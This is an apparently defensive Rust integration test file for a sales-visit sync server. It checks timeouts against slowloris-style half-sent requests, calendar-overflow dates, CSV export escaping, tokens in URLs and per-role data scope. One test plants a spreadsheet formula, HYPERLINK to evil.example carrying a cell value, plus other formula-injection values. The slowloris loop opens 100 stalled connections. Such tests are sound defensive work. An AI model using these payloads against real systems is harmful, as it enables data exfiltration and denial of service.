//! Attacks over plain HTTP and idle sockets: half-sent requests (slowloris), a sync socket
//! that goes silent, dates that overflow the calendar, spreadsheet formulas in a rep's
//! text, tokens in URLs, and rosters or targets outside a user's scope. Each time a
//! well-behaved rep keeps syncing.
#![allow(clippy::unwrap_used, clippy::expect_used)] // in tests a failed unwrap is a failed test

use std::time::Duration;

use chrono::NaiveDate;
use futures_util::StreamExt;
use rounds_server::state::{ServerConfig, ServerLimits, SyncLimits};
use rounds_shared::model::Visit;
use rounds_shared::sync::{DocumentId, PeerId, SyncClient};
use rounds_shared::time::{Timestamp, TzOffset};
use rounds_tests::hostile::{WAIT, joined};
use rounds_tests::peer::Peer;
use rounds_tests::{TestServer, edit_account};
use serde_json::json;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio_tungstenite::tungstenite::Message as Frame;

/// A server with reps `bad` and `good` (each with a hospital), a manager `li` of team 北区
/// (where `good` is), a manager `wu` of team 南区 and an admin `boss`.
async fn server(config: ServerConfig) -> (TestServer, DocumentId, DocumentId) {
    let server = TestServer::start_with(config).await.unwrap();
    server.team("北区").unwrap();
    server.team("南区").unwrap();
    server.user("good", "rep", Some("北区")).unwrap();
    server.user("bad", "rep", Some("南区")).unwrap();
    server.user("li", "manager", None).unwrap();
    server.user("wu", "manager", None).unwrap();
    server.user("boss", "admin", None).unwrap();
    server.manage("北区", "li").unwrap();
    server.manage("南区", "wu").unwrap();
    let good = DocumentId::from(server.account("好人的医院", "good").unwrap());
    let bad = DocumentId::from(server.account("坏人的医院", "bad").unwrap());
    (server, good, bad)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn half_sent_requests_and_silent_sockets_are_closed() {
    let (server, good, _) = server(ServerConfig {
        header_timeout: Duration::from_secs(1),
        request_timeout: Duration::from_secs(2),
        limits: SyncLimits {
            server: ServerLimits {
                ping_every: Duration::from_secs(1),
                idle_after: Duration::from_secs(2),
                ..ServerLimits::default()
            },
            ..SyncLimits::default()
        },
        ..ServerConfig::default()
    })
    .await;
    // 100 requests that never finish their headers.
    let mut held = Vec::new();
    for _ in 0..100 {
        let mut s = tokio::net::TcpStream::connect(server.addr).await.unwrap();
        s.write_all(b"GET /api/v1/health HTTP/1.1\r\nHost: x\r\nX-Slow: ")
            .await
            .unwrap();
        held.push(s);
    }
    // One that sends its headers but not all of its body.
    let mut body = tokio::net::TcpStream::connect(server.addr).await.unwrap();
    body.write_all(
        b"POST /api/v1/session HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 100\r\n\r\n{\"user",
    )
    .await
    .unwrap();
    // A sync socket that joins and then neither reads nor answers pings.
    let token = server.login("bad").await.unwrap();
    let mut silent = joined(&server.sync_url(&token)).await.unwrap();
    server.rep_syncs("good", good).await.unwrap();
    tokio::time::sleep(Duration::from_secs(4)).await;
    let mut closed = 0;
    for mut s in held {
        let mut buf = [0u8; 1024];
        // The server answers 408 or just closes; either way the socket ends.
        let ended = tokio::time::timeout(Duration::from_secs(2), async {
            loop {
                match s.read(&mut buf).await {
                    Ok(0) | Err(_) => break,
                    Ok(_) => {}
                }
            }
        })
        .await;
        closed += usize::from(ended.is_ok());
    }
    assert_eq!(closed, 100, "half-sent requests still open");
    let mut answer = String::new();
    let _ = tokio::time::timeout(Duration::from_secs(2), body.read_to_string(&mut answer)).await;
    assert!(answer.starts_with("HTTP/1.1 408"), "{answer:?}");
    let ended = tokio::time::timeout(Duration::from_secs(5), async {
        while let Some(Ok(frame)) = silent.next().await {
            if let Frame::Close(f) = frame {
                return f.map(|f| f.reason.to_string());
            }
        }
        None
    })
    .await
    .expect("the silent socket was closed");
    assert!(
        ended.as_ref().is_none_or(|r| r.contains("idle")),
        "{ended:?}"
    );
    server.rep_syncs("good", good).await.unwrap();
}

#[tokio::test]
async fn dates_beyond_the_calendar_are_a_400_not_a_panic() {
    let (server, good, _) = server(ServerConfig::default()).await;
    let token = server.login("boss").await.unwrap();
    for path in [
        "/api/v1/funnel?as_of=%2B262142-12-31",
        "/api/v1/funnel?as_of=-262143-01-01",
        "/api/v1/funnel?as_of=9999-12-31",
        "/api/v1/funnel?from=2026-01-01&to=%2B262142-12-31",
        "/api/v1/funnel?from=0001-01-01&to=2026-01-01",
        "/api/v1/visits?from=2026-01-01&to=%2B262142-12-31",
        "/api/v1/funnel/stalled?as_of=%2B262142-12-31",
    ] {
        let (status, body) = server.get(&token, path).await.unwrap();
        assert_eq!(status, 400, "{path}: {body}");
        assert!(body.contains("\"code\""), "{path}: {body}");
    }
    let (status, _) = server
        .get(&token, "/api/v1/funnel?as_of=2026-06-30")
        .await
        .unwrap();
    assert_eq!(status, 200);
    server.rep_syncs("good", good).await.unwrap();
}

#[tokio::test]
async fn a_reps_formula_reaches_the_managers_spreadsheet_as_text() {
    let (server, good, bad) = server(ServerConfig::default()).await;
    let token = server.login("bad").await.unwrap();
    let me = server.user_id("bad").unwrap();
    let mut peer = Peer::new(SyncClient::new(PeerId::from("bad-phone")).writing_as(me));
    peer.fetch(&server.sync_url(&token), &[bad], WAIT)
        .await
        .unwrap();
    let day = NaiveDate::from_ymd_opt(2026, 6, 1).unwrap();
    let mut v = Visit::new(Timestamp::start_of(day, TzOffset::BEIJING).plus_days(0), me);
    v.purpose = "+86 138 0000 0000".into();
    v.content = "=HYPERLINK(\"http://evil.example/?\"&A2,\"点这里\")".into();
    v.problems = "@SUM(1+1)".into();
    v.next_step = "-2+3".into();
    edit_account(&mut peer.engine, bad, |d| d.put(&v).unwrap()).unwrap();
    peer.changed(bad).await.unwrap();
    assert!(peer.sync(WAIT).await.unwrap());
    let wu = server.login("wu").await.unwrap();
    let (status, csv) = server
        .get(
            &wu,
            "/api/v1/visits?from=2026-06-01&to=2026-06-01&format=csv",
        )
        .await
        .unwrap();
    assert_eq!(status, 200, "{csv}");
    let row = csv.lines().nth(1).expect("one visit");
    for cell in [
        "'+86 138 0000 0000",
        "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A2,\"\"点这里\"\")\"",
        "'@SUM(1+1)",
        "'-2+3",
    ] {
        assert!(row.contains(cell), "{cell} not in {row}");
    }
    assert!(
        !row.contains(",=") && !row.contains(",+") && !row.contains(",@"),
        "{row}"
    );
    server.rep_syncs("good", good).await.unwrap();
}

#[tokio::test]
async fn tokens_stay_out_of_urls_and_answers_stay_in_scope() {
    let (server, good, _) = server(ServerConfig::default()).await;
    let http = reqwest::Client::new();
    let token = server.login("good").await.unwrap();
    // A token in the query string opens the sync socket only.
    let res = http
        .get(server.url(&format!("/api/v1/session?access_token={token}")))
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), 401);
    let res = http
        .get(server.url(&format!("/api/v1/visits?access_token={token}")))
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), 401);
    server.rep_syncs("good", good).await.unwrap();
    // Targets for everyone, then who sees which.
    let boss = server.login("boss").await.unwrap();
    let teams: serde_json::Value =
        serde_json::from_str(&server.get(&boss, "/api/v1/teams").await.unwrap().1).unwrap();
    let team = |name: &str| {
        teams
            .as_array()
            .unwrap()
            .iter()
            .find(|t| t["name"] == name)
            .unwrap()["id"]
            .clone()
    };
    let targets = json!([
        { "subject": "org", "period": "2026-Q4", "amount": 100_000_000 },
        { "subject": format!("team:{}", team("北区").as_str().unwrap()), "period": "2026-Q4", "amount": 60_000_000 },
        { "subject": format!("team:{}", team("南区").as_str().unwrap()), "period": "2026-Q4", "amount": 40_000_000 },
        { "subject": format!("rep:{}", server.user_id("good").unwrap()), "period": "2026-Q4", "amount": 30_000_000 },
        { "subject": format!("rep:{}", server.user_id("bad").unwrap()), "period": "2026-Q4", "amount": 20_000_000 },
    ]);
    let (status, body) = server
        .send(&boss, reqwest::Method::PUT, "/api/v1/org/targets", &targets)
        .await
        .unwrap();
    assert_eq!(status, 200, "{body}");
    let amounts = |body: String| -> Vec<i64> {
        let org: serde_json::Value = serde_json::from_str(&body).unwrap();
        let mut out: Vec<i64> = org["targets"]
            .as_array()
            .unwrap()
            .iter()
            .map(|t| t["amount"].as_i64().unwrap())
            .collect();
        out.sort();
        out
    };
    let org_of = |user: &'static str| {
        let server = &server;
        async move {
            let token = server.login(user).await.unwrap();
            amounts(server.get(&token, "/api/v1/org").await.unwrap().1)
        }
    };
    assert_eq!(org_of("boss").await.len(), 5);
    assert_eq!(
        org_of("li").await,
        [30_000_000, 60_000_000, 100_000_000],
        "a manager: the organisation, their team, their reps"
    );
    assert_eq!(
        org_of("good").await,
        [30_000_000, 60_000_000],
        "a rep: their team and themselves"
    );
    // A manager's roster is their own team's.
    let li = server.login("li").await.unwrap();
    let (_, body) = server.get(&li, "/api/v1/teams").await.unwrap();
    assert!(body.contains("北区") && !body.contains("南区"), "{body}");
    assert!(!body.contains("\"bad\""), "{body}");
}
